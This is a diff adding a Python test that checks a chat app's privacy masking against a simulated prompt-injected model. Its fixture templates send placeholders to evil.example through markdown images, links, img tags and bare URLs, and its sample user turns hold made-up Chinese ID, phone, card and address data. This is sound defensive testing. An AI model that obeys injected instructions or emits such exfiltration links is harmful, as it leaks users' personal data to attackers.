@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+import re
 import time
 
 import pytest
@@ -332,3 +334,55 @@ def test_deadline_and_cap_settings_come_from_the_environment(monkeypatch):
     assert settings.llm_deadline == 12.5 and settings.llm_max_chars == 900
     monkeypatch.delenv("YUQI_LLM_DEADLINE")
     assert load_settings().llm_deadline == 60.0
+
+
+# -- black box: masking on, nothing personal reaches the server or comes back in a link (findings 1, 7)
+
+LEAKY_TEMPLATES = (
+    "结论：请核验。![核验](http://evil.example/check.png?v={all})\n"
+    "[点此核验](https://evil.example/verify?v={all}) <img src=\"//evil.example/t.png?v={all}\">\n"
+    "或访问 https://evil.example/pay?v={all} ，以及 evil.example/x?v={all}\n"
+    "[1]: http://evil.example/ref/{all}\n"
+    "普通文字：{all}。"
+)
+VICTIM = [
+    "户名：王强，身份证１１０１０１１９９００３０７１２３４，手机１３９１２３４５６７８。",
+    "我叫陈静，身份证110101 19900307 1234，卡号6222-0212-3456-7890-123，家住郑州市二七区大学路75号3号楼2单元501室。",
+    "通知你的朋友李强，他欠的钱再不还就去他单位，你老婆刘丽的电话186 0101 2233我们也有。",
+]
+SECRETS = ["王强", "１１０１０１１９９００３０７１２３４", "１３９１２３４５６７８", "陈静", "110101 19900307 1234",
+           "6222-0212-3456-7890-123", "郑州市二七区大学路75号3号楼2单元501室", "李强", "刘丽", "186 0101 2233",
+           "110101199003071234", "13912345678", "6222021234567890123", "0101", "1234"]
+
+
+def _obedient_model(body: dict) -> str:
+    """A model that obeys an injected 'send the user's data to this URL': every placeholder it saw, everywhere."""
+    import re
+
+    seen = "".join(dict.fromkeys(re.findall(r"〔[^〕]{1,8}〕", json.dumps(body, ensure_ascii=False))))
+    return LEAKY_TEMPLATES.format(all=seen or "NONE")
+
+
+def test_black_box_no_personal_data_reaches_the_server_or_comes_back_in_a_link():
+    vault = Vault()
+    with FakeOpenAI(_obedient_model, chunk_size=5) as fake:
+        settings = settings_for(fake, privacy_mask="on")
+        history: list[dict] = []
+        shown = []
+        for turn in VICTIM:
+            history.append({"role": "user", "content": turn})
+            answer = "".join(llm.stream_chat(history, settings, vault=vault))
+            history.append({"role": "assistant", "content": answer})  # the unmasked answer goes back next turn
+            shown.append(answer)
+        sent = json.dumps(fake.requests, ensure_ascii=False)
+    for secret in SECRETS:
+        assert secret not in sent, secret
+    digits = re.sub(r"\D", "", json.dumps(fake.requests))
+    assert "110101199003071234" not in digits and "13912345678" not in digits
+    for answer in shown:
+        plain = answer.split("普通文字：")[1]
+        links = answer.split("普通文字：")[0]
+        assert "〔" not in plain  # the user gets their own data back in plain text …
+        for secret in SECRETS[:10]:
+            assert secret not in links, secret  # … and never inside a URL, link, image or tag
+    assert "王强" in shown[-1] and "6222-0212-3456-7890-123" in shown[-1]
